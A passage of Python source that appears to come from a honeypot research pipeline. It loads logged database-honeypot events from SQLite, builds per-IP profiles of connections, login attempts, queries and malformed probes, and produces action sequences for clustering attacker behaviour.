    #: Ordered action tokens (commands, queries, HTTP requests).
    actions: list[str] = field(default_factory=list)
    #: Raw payload excerpts, for signature matching.
    raws: list[str] = field(default_factory=list)
    malformed: int = 0
    first_ts: float = float("inf")
    last_ts: float = float("-inf")
    days_seen: set[int] = field(default_factory=set)
    configs: set[str] = field(default_factory=set)

    @property
    def active_days(self) -> int:
        """Number of distinct experiment days with activity."""
        return len(self.days_seen)

    @property
    def interacted(self) -> bool:
        """Whether the IP did anything beyond connecting."""
        return bool(self.actions or self.login_attempts or self.malformed)


def load_ip_profiles(db_path: str | Path, *,
                     interaction: str | None = None,
                     dbms: str | None = None,
                     start_ts: float | None = None,
                     ) -> dict[tuple[str, str], IpProfile]:
    """Build per-(IP, DBMS) profiles from a converted database.

    Parameters
    ----------
    db_path:
        SQLite database produced by the pipeline.
    interaction / dbms:
        Optional filters.
    start_ts:
        Experiment start timestamp for day bucketing; defaults to the
        earliest event in the database.
    """
    connection = open_database(db_path)
    try:
        where, params = _filters(interaction, dbms)
        if start_ts is None:
            row = connection.execute(
                f"SELECT MIN(timestamp) FROM events{where}",
                params).fetchone()
            start_ts = row[0] if row and row[0] is not None else 0.0
        profiles: dict[tuple[str, str], IpProfile] = {}
        cursor = connection.execute(
            "SELECT src_ip, dbms, country, asn, as_name, as_type, "
            "institutional, event_type, action, raw, timestamp, config, "
            "username, password "
            f"FROM events{where} ORDER BY timestamp, id", params)
        for row in cursor:
            key = (row["src_ip"], row["dbms"])
            profile = profiles.get(key)
            if profile is None:
                profile = IpProfile(
                    src_ip=row["src_ip"], dbms=row["dbms"],
                    country=row["country"], asn=row["asn"],
                    as_name=row["as_name"], as_type=row["as_type"],
                    institutional=bool(row["institutional"]))
                profiles[key] = profile
            _accumulate(profile, row, start_ts)
        return profiles
    finally:
        connection.close()


def _accumulate(profile: IpProfile, row: sqlite3.Row,
                start_ts: float) -> None:
    timestamp = row["timestamp"]
    profile.first_ts = min(profile.first_ts, timestamp)
    profile.last_ts = max(profile.last_ts, timestamp)
    profile.days_seen.add(int((timestamp - start_ts) // DAY_SECONDS))
    profile.configs.add(row["config"])
    event_type = row["event_type"]
    if event_type == "connect":
        profile.connects += 1
    elif event_type == "login_attempt":
        profile.login_attempts += 1
        username = row["username"] or ""
        profile.credentials.add((username, row["password"] or ""))
        # The username is part of the clustering term: brute-force tools
        # differ in the account lists they target, and that is what
        # separates their clusters.
        profile.actions.append(f"LOGIN {username}")
    elif event_type in ("command", "query", "http_request"):
        if row["action"]:
            profile.actions.append(row["action"])
        if row["raw"]:
            profile.raws.append(row["raw"])
    elif event_type == "malformed":
        profile.malformed += 1
        raw = row["raw"] or ""
        if raw:
            profile.raws.append(raw)
        # A coarse content fingerprint keeps different probe families
        # (RDP cookies vs JDWP handshakes vs TLS hellos) in different
        # clustering terms while identical bot payloads still collide.
        digest = hashlib.md5(raw.encode("utf-8", "replace")).hexdigest()
        profile.actions.append(f"MALFORMED {digest[:6]}")


def _filters(interaction: str | None,
             dbms: str | None) -> tuple[str, list]:
    clauses = []
    params: list = []
    if interaction is not None:
        clauses.append("interaction = ?")
        params.append(interaction)
    if dbms is not None:
        clauses.append("dbms = ?")
        params.append(dbms)
    if not clauses:
        return "", params
    return " WHERE " + " AND ".join(clauses), params


def action_sequences(profiles: dict[tuple[str, str], IpProfile],
                     *, dbms: str | None = None,
                     require_actions: bool = True,
                     ) -> dict[str, list[str]]:
    """Per-IP action sequences (the clustering "documents").

    When ``require_actions`` is set, IPs that only connected are
    excluded -- the paper notes that clustering pure scanners is
    uninformative.
    """
    sequences: dict[str, list[str]] = {}
    for (src_ip, profile_dbms), profile in profiles.items():
        if dbms is not None and profile_dbms != dbms:
            continue
        if require_actions and not profile.actions:
            continue
        sequences[src_ip] = list(profile.actions)
    return sequences
